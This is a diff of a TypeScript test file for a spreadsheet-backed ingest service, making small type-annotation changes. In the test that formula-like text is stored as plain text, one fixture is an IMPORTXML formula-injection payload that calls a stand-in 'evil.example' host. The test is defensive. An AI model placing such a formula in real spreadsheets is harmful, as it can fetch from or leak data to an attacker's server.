@@ -2,6 +2,7 @@
 import { readFileSync } from 'node:fs';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { makePassage } from '../helpers/passages';
+import type { Passage } from '../../shared/passage';
 import { LOCK_WAIT_MS } from '../../apps-script/script-lock';
 import { sidePath } from '../../apps-script/local-runtime/workbook-file';
 import { HOLD_LOCK, startTestSheet, tabValues, TOKEN, type TestSheet } from '../helpers/local-sheet';
@@ -110,7 +111,7 @@ describe('ingest', () => {
 });
 
 describe('text that looks like a formula is kept as text', () => {
-  test.each([
+  test.each<[keyof Passage, string]>([
     ['quote', '=IMPORTXML("http://evil.example/","//a")'],
     ['note', '+46 8 123 45 67'],
     ['note', '-1'],
@@ -267,7 +268,7 @@ describe('bad requests get their code and change nothing', () => {
     [{ action: 'passages', token: TOKEN, url: 'http://www.socialbarnungdom.se/x/\uffff' }, 'invalid_request'],
   ])('GET %j → %s', async (parameters, code) => {
     const workbook = sheet.bytes();
-    const reply = await sheet.get(parameters as Record<string, string>);
+    const reply = await sheet.get(parameters);
     expect(reply.json.error.code).toBe(code);
     expect(sheet.bytes().equals(workbook)).toBe(true);
   });
